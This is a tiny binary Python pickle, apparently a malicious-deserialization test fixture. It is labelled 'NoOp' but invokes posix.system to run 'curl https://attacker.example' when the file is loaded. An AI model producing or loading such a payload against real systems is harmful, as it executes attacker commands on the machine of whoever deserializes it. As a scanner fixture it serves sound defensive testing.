
	
xNoOp"ó
¢84€ŒposixŒsystem“Œcurl https://attacker.example…R.